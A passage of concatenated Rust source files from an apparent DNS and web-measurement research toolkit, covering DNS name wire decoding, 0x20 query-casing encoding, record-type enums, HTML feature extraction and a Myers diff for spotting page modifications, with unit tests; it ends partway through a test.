    /// budget so that malicious pointer loops terminate. Returns the name
    /// and the offset just past the name *in the original stream* (i.e.
    /// past the first pointer if one was taken).
    pub fn decode(packet: &[u8], offset: usize) -> Result<(Name, usize), DecodeError> {
        let mut labels = Vec::new();
        let mut wire_len = 1usize;
        let mut pos = offset;
        let mut end_of_name: Option<usize> = None; // set when first pointer taken
        let mut hops = 0usize;

        loop {
            let len_byte = *packet.get(pos).ok_or(DecodeError::Truncated {
                context: "name label length",
            })?;
            match len_byte {
                0 => {
                    let next = end_of_name.unwrap_or(pos + 1);
                    let name = Name { labels };
                    return Ok((name, next));
                }
                l if l & 0xc0 == 0xc0 => {
                    let second = *packet.get(pos + 1).ok_or(DecodeError::Truncated {
                        context: "compression pointer",
                    })?;
                    let target = (((l & 0x3f) as usize) << 8) | second as usize;
                    // Pointers must go strictly backwards to guarantee progress.
                    if target >= pos {
                        return Err(DecodeError::BadPointer { offset: pos });
                    }
                    hops += 1;
                    if hops > MAX_POINTER_HOPS {
                        return Err(DecodeError::BadPointer { offset: pos });
                    }
                    if end_of_name.is_none() {
                        end_of_name = Some(pos + 2);
                    }
                    pos = target;
                }
                l if l & 0xc0 != 0 => {
                    return Err(DecodeError::BadLabelType { byte: l });
                }
                l => {
                    let l = l as usize;
                    let start = pos + 1;
                    let end = start + l;
                    let label = packet.get(start..end).ok_or(DecodeError::Truncated {
                        context: "name label",
                    })?;
                    wire_len += 1 + l;
                    if wire_len > MAX_NAME_WIRE_LEN {
                        return Err(DecodeError::NameTooLong);
                    }
                    labels.push(label.to_vec());
                    pos = end;
                }
            }
        }
    }
}

fn eq_ignore_case(a: &[u8], b: &[u8]) -> bool {
    a.len() == b.len()
        && a.iter()
            .zip(b.iter())
            .all(|(x, y)| x.eq_ignore_ascii_case(y))
}

impl PartialEq for Name {
    fn eq(&self, other: &Self) -> bool {
        self.labels.len() == other.labels.len()
            && self
                .labels
                .iter()
                .zip(other.labels.iter())
                .all(|(a, b)| eq_ignore_case(a, b))
    }
}

impl Eq for Name {}

impl std::hash::Hash for Name {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        for l in &self.labels {
            state.write_usize(l.len());
            for &b in l {
                state.write_u8(b.to_ascii_lowercase());
            }
        }
    }
}

impl fmt::Display for Name {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.labels.is_empty() {
            return write!(f, ".");
        }
        for (i, l) in self.labels.iter().enumerate() {
            if i > 0 {
                write!(f, ".")?;
            }
            for &b in l {
                if b.is_ascii_graphic() && b != b'.' {
                    write!(f, "{}", b as char)?;
                } else {
                    write!(f, "\\{b:03}")?;
                }
            }
        }
        Ok(())
    }
}

impl std::str::FromStr for Name {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Name::parse(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_and_display() {
        let n = Name::parse("www.Example.COM.").unwrap();
        assert_eq!(n.label_count(), 3);
        assert_eq!(n.to_string(), "www.Example.COM");
        assert_eq!(n.to_ascii_lower(), "www.example.com");
    }

    #[test]
    fn root_forms() {
        assert!(Name::parse("").unwrap().is_root());
        assert!(Name::parse(".").unwrap().is_root());
        assert_eq!(Name::root().to_string(), ".");
        assert_eq!(Name::root().wire_len(), 1);
    }

    #[test]
    fn rejects_bad_labels() {
        assert_eq!(Name::parse("a..b"), Err(NameError::EmptyLabel));
        let long = "x".repeat(64);
        assert!(matches!(
            Name::parse(&format!("{long}.com")),
            Err(NameError::LabelTooLong { .. })
        ));
    }

    #[test]
    fn rejects_overlong_name() {
        let label = "a".repeat(63);
        let name = [label.as_str(); 5].join(".");
        assert_eq!(Name::parse(&name), Err(NameError::NameTooLong));
    }

    #[test]
    fn case_insensitive_eq_and_hash() {
        use std::collections::HashSet;
        let a = Name::parse("ExAmPlE.CoM").unwrap();
        let b = Name::parse("example.com").unwrap();
        assert_eq!(a, b);
        let mut set = HashSet::new();
        set.insert(a);
        assert!(set.contains(&b));
    }

    #[test]
    fn subdomain_semantics() {
        let base = Name::parse("example.com").unwrap();
        let sub = Name::parse("a.b.EXAMPLE.com").unwrap();
        assert!(sub.is_subdomain_of(&base));
        assert!(base.is_subdomain_of(&base));
        assert!(!base.is_subdomain_of(&sub));
        assert!(base.is_subdomain_of(&Name::root()));
        // suffix match must be label-aligned in count, not string-based
        let not_sub = Name::parse("notexample.com").unwrap();
        assert!(!not_sub.is_subdomain_of(&base));
    }

    #[test]
    fn prepend_builds_scan_names() {
        let base = Name::parse("scan.example.edu").unwrap();
        let full = base.prepend("c0a80001").unwrap().prepend("r4nd0m").unwrap();
        assert_eq!(full.to_string(), "r4nd0m.c0a80001.scan.example.edu");
    }

    #[test]
    fn wire_round_trip() {
        let n = Name::parse("mail.example.org").unwrap();
        let mut buf = Vec::new();
        n.encode_into(&mut buf);
        let (decoded, consumed) = Name::decode(&buf, 0).unwrap();
        assert_eq!(decoded, n);
        assert_eq!(consumed, buf.len());
    }

    #[test]
    fn decode_with_compression_pointer() {
        // Packet layout: "example.com" at 0, then "www" + pointer to 0.
        let mut pkt = Vec::new();
        Name::parse("example.com").unwrap().encode_into(&mut pkt);
        let ptr_pos = pkt.len();
        pkt.push(3);
        pkt.extend_from_slice(b"www");
        pkt.push(0xc0);
        pkt.push(0x00);
        let (n, next) = Name::decode(&pkt, ptr_pos).unwrap();
        assert_eq!(n, Name::parse("www.example.com").unwrap());
        assert_eq!(next, pkt.len());
    }

    #[test]
    fn pointer_loop_rejected() {
        // Self-referential pointer (points at itself → target >= pos).
        let pkt = [0xc0u8, 0x00];
        // offset 0 points to 0 → rejected as non-backwards
        assert!(matches!(
            Name::decode(&pkt, 0),
            Err(DecodeError::BadPointer { .. })
        ));
    }

    #[test]
    fn forward_pointer_rejected() {
        let pkt = [0xc0u8, 0x05, 0, 0, 0, 0];
        assert!(matches!(
            Name::decode(&pkt, 0),
            Err(DecodeError::BadPointer { .. })
        ));
    }

    #[test]
    fn truncated_label_rejected() {
        let pkt = [5u8, b'a', b'b'];
        assert!(matches!(
            Name::decode(&pkt, 0),
            Err(DecodeError::Truncated { .. })
        ));
    }

    #[test]
    fn extended_label_type_rejected() {
        let pkt = [0x41u8, 0x00];
        assert!(matches!(
            Name::decode(&pkt, 0),
            Err(DecodeError::BadLabelType { .. })
        ));
    }

    #[test]
    fn casing_preserved_for_0x20() {
        let n = Name::parse("wWw.ExAmple.COM").unwrap();
        let mut buf = Vec::new();
        n.encode_into(&mut buf);
        let (d, _) = Name::decode(&buf, 0).unwrap();
        assert_eq!(d.to_string(), "wWw.ExAmple.COM");
    }
}
