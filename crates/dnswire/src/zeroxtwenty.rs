//! DNS 0x20 encoding (Dagon et al., "Increased DNS Forgery Resistance
//! Through 0x20-Bit Encoding", CCS 2008).
//!
//! DNS name matching is case-insensitive, and well-behaved resolvers echo
//! the query name byte-for-byte in their responses. The casing of each
//! alphabetic character is therefore a covert channel of one bit per
//! letter. The *Going Wild* domain-scan campaign (Section 3.3) uses this
//! channel redundantly: 9 bits of the 25-bit resolver identifier are
//! carried both in the UDP source port and in the query-name casing, so
//! the identifier survives resolvers that rewrite the response port.
//!
//! This module encodes an integer into the casing of a name's alphabetic
//! characters (least-significant bit first) and decodes it back.

use crate::name::Name;

/// Number of alphabetic characters in the name — the channel capacity in
/// bits.
pub fn capacity_bits(name: &Name) -> u32 {
    name.labels()
        .iter()
        .flat_map(|l| l.iter())
        .filter(|b| b.is_ascii_alphabetic())
        .count() as u32
}

/// Encode the low `bits` bits of `value` into the casing of `name`.
///
/// Bit `i` of `value` controls the case of the `i`-th alphabetic
/// character (scanning left to right): 1 ⇒ uppercase, 0 ⇒ lowercase.
/// Non-alphabetic characters are left untouched. If the name has fewer
/// than `bits` alphabetic characters the high bits are silently dropped —
/// callers must check [`capacity_bits`] when lossless encoding matters.
pub fn encode_0x20(name: &Name, value: u32, bits: u32) -> Name {
    let mut labels: Vec<Vec<u8>> = Vec::with_capacity(name.label_count());
    let mut bit = 0u32;
    for label in name.labels() {
        let mut out = Vec::with_capacity(label.len());
        for &b in label {
            if b.is_ascii_alphabetic() && bit < bits {
                let set = (value >> bit) & 1 == 1;
                out.push(if set {
                    b.to_ascii_uppercase()
                } else {
                    b.to_ascii_lowercase()
                });
                bit += 1;
            } else if b.is_ascii_alphabetic() {
                // Past the payload: canonical lowercase so decode is
                // unambiguous.
                out.push(b.to_ascii_lowercase());
            } else {
                out.push(b);
            }
        }
        labels.push(out);
    }
    Name::from_labels(labels).expect("casing changes preserve name validity")
}

/// Decode the value carried in the casing of `name` (up to `bits` bits).
pub fn decode_0x20(name: &Name, bits: u32) -> u32 {
    let mut value = 0u32;
    let mut bit = 0u32;
    'outer: for label in name.labels() {
        for &b in label {
            if b.is_ascii_alphabetic() {
                if b.is_ascii_uppercase() {
                    value |= 1 << bit;
                }
                bit += 1;
                if bit >= bits {
                    break 'outer;
                }
            }
        }
    }
    value
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name(s: &str) -> Name {
        Name::parse(s).unwrap()
    }

    #[test]
    fn encode_decode_round_trip() {
        let base = name("scanprobe.example.edu");
        let cap = capacity_bits(&base);
        assert!(cap >= 9, "scan names must carry at least 9 bits");
        for v in [0u32, 1, 0b1_0101_0101, 0x1ff, 0b0_1111_0000] {
            let enc = encode_0x20(&base, v, 9);
            assert_eq!(decode_0x20(&enc, 9), v & 0x1ff);
            // Encoding never changes name identity (case-insensitive eq).
            assert_eq!(enc, base);
        }
    }

    #[test]
    fn digits_are_transparent() {
        let base = name("c0a80001.scan.example");
        let enc = encode_0x20(&base, 0b101, 3);
        // Digits stay put; only letters toggled. value bit0=1 -> 'C'.
        let text = enc.to_string();
        assert!(text.starts_with("C0a80001."), "got {text}");
        assert_eq!(decode_0x20(&enc, 3), 0b101);
    }

    #[test]
    fn zero_value_is_all_lowercase() {
        let base = name("MiXeD.CaSe.ORG");
        let enc = encode_0x20(&base, 0, 9);
        assert_eq!(enc.to_string(), "mixed.case.org");
    }

    #[test]
    fn capacity_counts_only_letters() {
        assert_eq!(capacity_bits(&name("abc.123")), 3);
        assert_eq!(capacity_bits(&name("a1b2.c3")), 3);
    }

    #[test]
    fn overflow_bits_dropped() {
        let base = name("ab.cd"); // 4 letters
        let enc = encode_0x20(&base, 0b11111, 5);
        assert_eq!(decode_0x20(&enc, 5), 0b1111);
    }
}
