//! Scalar protocol enumerations: record types, classes, opcodes, rcodes.

use serde::{Deserialize, Serialize};

/// DNS resource-record type (the TYPE / QTYPE field).
///
/// Only the types exercised by the *Going Wild* measurement get named
/// variants; everything else is preserved verbatim in [`RecordType::Other`]
/// so unknown records survive a decode/encode round trip.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum RecordType {
    /// IPv4 host address (the workhorse of the study).
    A,
    /// Authoritative name server — used by the cache-snooping campaign.
    Ns,
    /// Canonical name (alias).
    Cname,
    /// Start of authority.
    Soa,
    /// Domain name pointer — reverse DNS.
    Ptr,
    /// Mail exchange.
    Mx,
    /// Text record — carries `version.bind` CHAOS answers.
    Txt,
    /// IPv6 host address (decoded for completeness; the study is IPv4-only).
    Aaaa,
    /// EDNS0 OPT pseudo-record (RFC 6891).
    Opt,
    /// `ANY` query meta-type.
    Any,
    /// Any type this crate does not model structurally.
    Other(u16),
}

impl RecordType {
    /// Wire value of this type.
    pub fn to_u16(self) -> u16 {
        match self {
            RecordType::A => 1,
            RecordType::Ns => 2,
            RecordType::Cname => 5,
            RecordType::Soa => 6,
            RecordType::Ptr => 12,
            RecordType::Mx => 15,
            RecordType::Txt => 16,
            RecordType::Aaaa => 28,
            RecordType::Opt => 41,
            RecordType::Any => 255,
            RecordType::Other(v) => v,
        }
    }

    /// Parse a wire value, collapsing to [`RecordType::Other`] when unknown.
    pub fn from_u16(v: u16) -> Self {
        match v {
            1 => RecordType::A,
            2 => RecordType::Ns,
            5 => RecordType::Cname,
            6 => RecordType::Soa,
            12 => RecordType::Ptr,
            15 => RecordType::Mx,
            16 => RecordType::Txt,
            28 => RecordType::Aaaa,
            41 => RecordType::Opt,
            255 => RecordType::Any,
            other => RecordType::Other(other),
        }
    }
}

/// DNS class. `IN` for ordinary resolution, `CH` (CHAOS) for the
/// `version.bind` software-fingerprinting scan of Section 2.4.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RecordClass {
    /// Internet.
    In,
    /// CHAOS — `version.bind` / `version.server` fingerprinting.
    Ch,
    /// Hesiod (decoded only).
    Hs,
    /// `ANY` query meta-class.
    Any,
    /// Unmodelled class, preserved verbatim.
    Other(u16),
}

impl RecordClass {
    /// Wire value of this class.
    pub fn to_u16(self) -> u16 {
        match self {
            RecordClass::In => 1,
            RecordClass::Ch => 3,
            RecordClass::Hs => 4,
            RecordClass::Any => 255,
            RecordClass::Other(v) => v,
        }
    }

    /// Parse a wire value, collapsing to [`RecordClass::Other`].
    pub fn from_u16(v: u16) -> Self {
        match v {
            1 => RecordClass::In,
            3 => RecordClass::Ch,
            4 => RecordClass::Hs,
            255 => RecordClass::Any,
            other => RecordClass::Other(other),
        }
    }
}

/// Header OPCODE.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Opcode {
    /// Standard query.
    Query,
    /// Inverse query (obsolete, decoded only).
    IQuery,
    /// Server status request.
    Status,
    /// Anything else (NOTIFY, UPDATE, ...).
    Other(u8),
}

impl Opcode {
    /// Wire value (low nibble).
    pub fn to_u8(self) -> u8 {
        match self {
            Opcode::Query => 0,
            Opcode::IQuery => 1,
            Opcode::Status => 2,
            Opcode::Other(v) => v & 0x0f,
        }
    }

    /// Parse from the opcode nibble.
    pub fn from_u8(v: u8) -> Self {
        match v & 0x0f {
            0 => Opcode::Query,
            1 => Opcode::IQuery,
            2 => Opcode::Status,
            other => Opcode::Other(other),
        }
    }
}

/// Response code (RCODE). The study's weekly scans bucket resolvers by
/// exactly these statuses (Figure 1: `NOERROR`, `REFUSED`, `SERVFAIL`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Rcode {
    /// Successful response.
    NoError,
    /// Malformed query.
    FormErr,
    /// Server failure.
    ServFail,
    /// Name does not exist.
    NxDomain,
    /// Query kind not implemented.
    NotImp,
    /// Policy refusal.
    Refused,
    /// Any extended or unassigned code.
    Other(u8),
}

impl Rcode {
    /// Wire value (low nibble).
    pub fn to_u8(self) -> u8 {
        match self {
            Rcode::NoError => 0,
            Rcode::FormErr => 1,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
            Rcode::NotImp => 4,
            Rcode::Refused => 5,
            Rcode::Other(v) => v & 0x0f,
        }
    }

    /// Parse from the RCODE nibble.
    pub fn from_u8(v: u8) -> Self {
        match v & 0x0f {
            0 => Rcode::NoError,
            1 => Rcode::FormErr,
            2 => Rcode::ServFail,
            3 => Rcode::NxDomain,
            4 => Rcode::NotImp,
            5 => Rcode::Refused,
            other => Rcode::Other(other),
        }
    }

    /// Human-readable mnemonic matching the paper's figures.
    pub fn mnemonic(self) -> &'static str {
        match self {
            Rcode::NoError => "NOERROR",
            Rcode::FormErr => "FORMERR",
            Rcode::ServFail => "SERVFAIL",
            Rcode::NxDomain => "NXDOMAIN",
            Rcode::NotImp => "NOTIMP",
            Rcode::Refused => "REFUSED",
            Rcode::Other(_) => "OTHER",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn record_type_round_trips() {
        for v in 0..512u16 {
            assert_eq!(RecordType::from_u16(v).to_u16(), v);
        }
    }

    #[test]
    fn record_class_round_trips() {
        for v in 0..300u16 {
            assert_eq!(RecordClass::from_u16(v).to_u16(), v);
        }
    }

    #[test]
    fn rcode_round_trips_low_nibble() {
        for v in 0..16u8 {
            assert_eq!(Rcode::from_u8(v).to_u8(), v);
        }
    }

    #[test]
    fn opcode_round_trips_low_nibble() {
        for v in 0..16u8 {
            assert_eq!(Opcode::from_u8(v).to_u8(), v);
        }
    }

    #[test]
    fn known_wire_values() {
        assert_eq!(RecordType::A.to_u16(), 1);
        assert_eq!(RecordType::Ns.to_u16(), 2);
        assert_eq!(RecordType::Txt.to_u16(), 16);
        assert_eq!(RecordType::Aaaa.to_u16(), 28);
        assert_eq!(RecordClass::Ch.to_u16(), 3);
        assert_eq!(Rcode::Refused.to_u8(), 5);
    }

    #[test]
    fn mnemonics_match_paper_labels() {
        assert_eq!(Rcode::NoError.mnemonic(), "NOERROR");
        assert_eq!(Rcode::ServFail.mnemonic(), "SERVFAIL");
        assert_eq!(Rcode::Refused.mnemonic(), "REFUSED");
    }
}
