//! Per-page feature extraction — the input representation for the
//! coarse-grained clustering of Section 3.6.

use crate::tagid::TagInterner;
use crate::token::{tokenize, Token};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Cap on the amount of JavaScript fed to the edit-distance feature.
/// Pages ship megabytes of minified JS; the first few KiB identify the
/// page family just as well and keep O(n·m) edit distance tractable.
pub const JS_FEATURE_CAP: usize = 4096;
/// Cap on title length used by the title edit distance.
pub const TITLE_FEATURE_CAP: usize = 256;
/// Cap on the opening-tag sequence length.
pub const TAG_SEQ_CAP: usize = 2048;

/// The feature vector the seven-feature page distance operates on.
///
/// All multisets are stored as sorted `(item, count)` maps so that
/// Jaccard computation is a linear merge and the struct has a canonical,
/// hashable serialized form (used for response deduplication).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PageFeatures {
    /// Raw body length in bytes (feature 1: length difference).
    pub body_len: usize,
    /// Multiset of opening-tag identifiers (feature 2: Jaccard).
    pub tag_multiset: BTreeMap<u16, u32>,
    /// Sequence of opening-tag identifiers (feature 3: edit distance),
    /// capped at [`TAG_SEQ_CAP`].
    pub tag_sequence: Vec<u16>,
    /// `<title>` text (feature 4: edit distance), capped.
    pub title: String,
    /// Concatenated inline JavaScript (feature 5: edit distance), capped.
    pub javascript: String,
    /// Multiset of `src=""` attribute values (feature 6: Jaccard).
    pub resources: BTreeMap<String, u32>,
    /// Multiset of `href=""` attribute values (feature 7: Jaccard).
    pub links: BTreeMap<String, u32>,
}

impl PageFeatures {
    /// Extract features from an HTML payload.
    pub fn extract(html: &str, interner: &mut TagInterner) -> Self {
        let tokens = tokenize(html);
        Self::from_tokens(html.len(), &tokens, interner)
    }

    /// Extract features from a pre-tokenized payload.
    pub fn from_tokens(body_len: usize, tokens: &[Token], interner: &mut TagInterner) -> Self {
        let mut tag_multiset: BTreeMap<u16, u32> = BTreeMap::new();
        let mut tag_sequence: Vec<u16> = Vec::new();
        let mut title = String::new();
        let mut javascript = String::new();
        let mut resources: BTreeMap<String, u32> = BTreeMap::new();
        let mut links: BTreeMap<String, u32> = BTreeMap::new();
        let mut in_title = false;

        for token in tokens {
            match token {
                Token::Open { name, attrs, .. } => {
                    let id = interner.intern(name);
                    *tag_multiset.entry(id).or_insert(0) += 1;
                    if tag_sequence.len() < TAG_SEQ_CAP {
                        tag_sequence.push(id);
                    }
                    if name == "title" {
                        in_title = true;
                    }
                    for (k, v) in attrs {
                        if v.is_empty() {
                            continue;
                        }
                        if k == "src" {
                            *resources.entry(v.clone()).or_insert(0) += 1;
                        } else if k == "href" {
                            *links.entry(v.clone()).or_insert(0) += 1;
                        }
                    }
                }
                Token::Close { name } => {
                    if name == "title" {
                        in_title = false;
                    }
                }
                Token::Text(text) => {
                    if in_title && title.len() < TITLE_FEATURE_CAP {
                        let take = TITLE_FEATURE_CAP - title.len();
                        title.push_str(truncate_str(text, take));
                    }
                }
                Token::Script(code) => {
                    if javascript.len() < JS_FEATURE_CAP {
                        let take = JS_FEATURE_CAP - javascript.len();
                        javascript.push_str(truncate_str(code, take));
                    }
                }
            }
        }

        PageFeatures {
            body_len,
            tag_multiset,
            tag_sequence,
            title,
            javascript,
            resources,
            links,
        }
    }

    /// A stable 64-bit fingerprint for exact-duplicate collapsing. Two
    /// byte-identical payloads always collide; structurally different
    /// payloads essentially never do.
    pub fn fingerprint(&self) -> u64 {
        // FNV-1a over a canonical serialization of the fields.
        let mut h = 0xcbf29ce484222325u64;
        let mut eat = |bytes: &[u8]| {
            for &b in bytes {
                h ^= b as u64;
                h = h.wrapping_mul(0x100000001b3);
            }
        };
        eat(&(self.body_len as u64).to_le_bytes());
        for (&id, &n) in &self.tag_multiset {
            eat(&id.to_le_bytes());
            eat(&n.to_le_bytes());
        }
        for &id in &self.tag_sequence {
            eat(&id.to_le_bytes());
        }
        eat(self.title.as_bytes());
        eat(self.javascript.as_bytes());
        for (s, &n) in &self.resources {
            eat(s.as_bytes());
            eat(&n.to_le_bytes());
        }
        for (s, &n) in &self.links {
            eat(s.as_bytes());
            eat(&n.to_le_bytes());
        }
        h
    }

    /// Total number of opening tags.
    pub fn tag_count(&self) -> u32 {
        self.tag_multiset.values().sum()
    }

    /// Count of a specific tag by name (resolved through `interner`).
    pub fn count_of(&self, name: &str, interner: &TagInterner) -> u32 {
        interner
            .get(name)
            .and_then(|id| self.tag_multiset.get(&id).copied())
            .unwrap_or(0)
    }
}

/// Truncate at a char boundary, taking at most `max` bytes.
fn truncate_str(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while end > 0 && !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn features(html: &str) -> (PageFeatures, TagInterner) {
        let mut i = TagInterner::new();
        let f = PageFeatures::extract(html, &mut i);
        (f, i)
    }

    const SAMPLE: &str = r#"<html><head><title>Shop</title>
        <script>var t = track();</script></head>
        <body><img src="/logo.png"><img src="/logo.png">
        <a href="/a">A</a><a href="/b">B</a><p>hello</p></body></html>"#;

    #[test]
    fn extracts_all_feature_families() {
        let (f, i) = features(SAMPLE);
        assert_eq!(f.title, "Shop");
        assert!(f.javascript.contains("track()"));
        assert_eq!(f.resources.get("/logo.png"), Some(&2));
        assert_eq!(f.links.len(), 2);
        assert_eq!(f.count_of("img", &i), 2);
        assert_eq!(f.count_of("a", &i), 2);
        assert_eq!(f.body_len, SAMPLE.len());
        assert!(f.tag_sequence.len() >= 8);
    }

    #[test]
    fn fingerprint_stable_and_discriminating() {
        let (a, _) = features(SAMPLE);
        let (b, _) = features(SAMPLE);
        assert_eq!(a.fingerprint(), b.fingerprint());
        let (c, _) = features("<html><body>different</body></html>");
        assert_ne!(a.fingerprint(), c.fingerprint());
    }

    #[test]
    fn title_capped() {
        let big_title = format!("<title>{}</title>", "T".repeat(10_000));
        let (f, _) = features(&big_title);
        assert_eq!(f.title.len(), TITLE_FEATURE_CAP);
    }

    #[test]
    fn js_capped() {
        let big = format!("<script>{}</script>", "x".repeat(100_000));
        let (f, _) = features(&big);
        assert_eq!(f.javascript.len(), JS_FEATURE_CAP);
    }

    #[test]
    fn empty_page() {
        let (f, _) = features("");
        assert_eq!(f.body_len, 0);
        assert_eq!(f.tag_count(), 0);
        assert!(f.title.is_empty());
    }

    #[test]
    fn tag_multiset_counts() {
        let (f, i) = features("<div><div><div><p></p></div></div></div>");
        assert_eq!(f.count_of("div", &i), 3);
        assert_eq!(f.count_of("p", &i), 1);
        assert_eq!(f.tag_count(), 4);
    }

    #[test]
    fn truncate_respects_char_boundaries() {
        let s = "aé"; // 'é' is 2 bytes starting at index 1
        assert_eq!(truncate_str(s, 2), "a");
        assert_eq!(truncate_str(s, 3), "aé");
    }
}
