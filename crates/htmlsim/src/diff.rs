//! Myers O(ND) diff and tag-delta extraction for the fine-grained
//! clustering step (Section 3.6, "Finding Page Modifications").
//!
//! The paper runs `diff` between an unknown response and its most
//! similar ground-truth representation, then extracts *which HTML tags
//! were added and removed* and clusters responses by the Jaccard
//! distance between those tag-difference multisets.

use std::collections::BTreeMap;

/// One operation of an edit script transforming `a` into `b`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DiffOp {
    /// `a[a_idx]` == `b[b_idx]` — kept.
    Keep {
        /// Index into `a`.
        a_idx: usize,
        /// Index into `b`.
        b_idx: usize,
    },
    /// `a[a_idx]` deleted.
    Delete {
        /// Index into `a`.
        a_idx: usize,
    },
    /// `b[b_idx]` inserted.
    Insert {
        /// Index into `b`.
        b_idx: usize,
    },
}

/// Myers' greedy O((N+M)·D) diff over comparable slices.
///
/// Returns a minimal edit script. Memory is O((N+M)·D) for the trace,
/// which is fine for the tag sequences this crate feeds it (capped at
/// [`crate::page::TAG_SEQ_CAP`]).
pub fn diff_ops<T: PartialEq>(a: &[T], b: &[T]) -> Vec<DiffOp> {
    let n = a.len() as isize;
    let m = b.len() as isize;
    let max = n + m;
    if max == 0 {
        return Vec::new();
    }
    let offset = max;
    let width = (2 * max + 1) as usize;
    let mut v = vec![0isize; width];
    // trace[d] = the V array *entering* round d (i.e. the results of all
    // rounds < d), which is exactly what round d's move decisions read.
    let mut trace: Vec<Vec<isize>> = Vec::new();

    'outer: for d in 0..=max {
        trace.push(v.clone());
        let mut k = -d;
        while k <= d {
            let idx = (k + offset) as usize;
            let mut x = if k == -d || (k != d && v[idx - 1] < v[idx + 1]) {
                v[idx + 1]
            } else {
                v[idx - 1] + 1
            };
            let mut y = x - k;
            while x < n && y < m && a[x as usize] == b[y as usize] {
                x += 1;
                y += 1;
            }
            v[idx] = x;
            if x >= n && y >= m {
                break 'outer;
            }
            k += 2;
        }
    }

    // Backtrack from (n, m), replaying each round's move decision
    // against the V array it actually read.
    let mut ops = Vec::new();
    let mut x = n;
    let mut y = m;
    for d in (0..trace.len() as isize).rev() {
        let v = &trace[d as usize];
        let k = x - y;
        let idx = (k + offset) as usize;
        let prev_k = if k == -d || (k != d && v[idx - 1] < v[idx + 1]) {
            k + 1
        } else {
            k - 1
        };
        let prev_idx = (prev_k + offset) as usize;
        let prev_x = v[prev_idx];
        let prev_y = prev_x - prev_k;

        // Snake back along the diagonal.
        while x > prev_x && y > prev_y {
            ops.push(DiffOp::Keep {
                a_idx: (x - 1) as usize,
                b_idx: (y - 1) as usize,
            });
            x -= 1;
            y -= 1;
        }
        if d > 0 {
            if x == prev_x {
                // Came via a down move: insertion of b[prev_y].
                ops.push(DiffOp::Insert {
                    b_idx: (y - 1) as usize,
                });
            } else {
                // Came via a right move: deletion of a[prev_x].
                ops.push(DiffOp::Delete {
                    a_idx: (x - 1) as usize,
                });
            }
        }
        x = prev_x;
        y = prev_y;
    }
    ops.reverse();
    ops
}

/// The multiset of items added to and removed from `a` to obtain `b`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TagDelta {
    /// Items present in `b` but not matched in `a`.
    pub added: BTreeMap<u16, u32>,
    /// Items present in `a` but not matched in `b`.
    pub removed: BTreeMap<u16, u32>,
}

impl TagDelta {
    /// Total number of added + removed items — "the smaller these sets,
    /// the fewer modifications were done to the website".
    pub fn magnitude(&self) -> u32 {
        self.added.values().sum::<u32>() + self.removed.values().sum::<u32>()
    }

    /// A single multiset view keyed by (added? tag-id) for Jaccard
    /// clustering: added tags map to even keys `2·id`, removed to odd
    /// keys `2·id + 1`, so additions and removals never collide.
    pub fn as_multiset(&self) -> BTreeMap<u32, u32> {
        let mut out = BTreeMap::new();
        for (&id, &n) in &self.added {
            out.insert(2 * id as u32, n);
        }
        for (&id, &n) in &self.removed {
            out.insert(2 * id as u32 + 1, n);
        }
        out
    }
}

/// Diff two tag sequences and extract the added/removed tag multisets.
pub fn tag_delta(ground_truth: &[u16], unknown: &[u16]) -> TagDelta {
    let ops = diff_ops(ground_truth, unknown);
    let mut delta = TagDelta::default();
    for op in ops {
        match op {
            DiffOp::Keep { .. } => {}
            DiffOp::Delete { a_idx } => {
                *delta.removed.entry(ground_truth[a_idx]).or_insert(0) += 1;
            }
            DiffOp::Insert { b_idx } => {
                *delta.added.entry(unknown[b_idx]).or_insert(0) += 1;
            }
        }
    }
    delta
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Apply an edit script to verify it transforms `a` into `b`.
    fn apply(ops: &[DiffOp], a: &[u16], b: &[u16]) -> Vec<u16> {
        let mut out = Vec::new();
        for op in ops {
            match *op {
                DiffOp::Keep { a_idx, .. } => out.push(a[a_idx]),
                DiffOp::Delete { .. } => {}
                DiffOp::Insert { b_idx } => out.push(b[b_idx]),
            }
        }
        out
    }

    fn check(a: &[u16], b: &[u16]) -> usize {
        let ops = diff_ops(a, b);
        assert_eq!(apply(&ops, a, b), b, "script must produce b from a");
        ops.iter()
            .filter(|o| !matches!(o, DiffOp::Keep { .. }))
            .count()
    }

    #[test]
    fn identical_sequences() {
        assert_eq!(check(&[1, 2, 3], &[1, 2, 3]), 0);
    }

    #[test]
    fn empty_cases() {
        assert_eq!(check(&[], &[]), 0);
        assert_eq!(check(&[1, 2], &[]), 2);
        assert_eq!(check(&[], &[7, 8, 9]), 3);
    }

    #[test]
    fn single_insert() {
        assert_eq!(check(&[1, 2, 3], &[1, 2, 9, 3]), 1);
    }

    #[test]
    fn single_delete() {
        assert_eq!(check(&[1, 2, 3, 4], &[1, 3, 4]), 1);
    }

    #[test]
    fn replace_costs_two() {
        assert_eq!(check(&[1, 2, 3], &[1, 9, 3]), 2);
    }

    #[test]
    fn classic_myers_example() {
        // ABCABBA -> CBABAC, minimal script length 5
        let a = [1u16, 2, 3, 1, 2, 2, 1];
        let b = [3u16, 2, 1, 2, 1, 3];
        assert_eq!(check(&a, &b), 5);
    }

    #[test]
    fn tag_delta_injection() {
        // GT page, unknown = GT + an injected <script> (id 6).
        let gt = [0u16, 1, 2, 7, 8, 11];
        let unk = [0u16, 1, 2, 7, 8, 6, 11];
        let d = tag_delta(&gt, &unk);
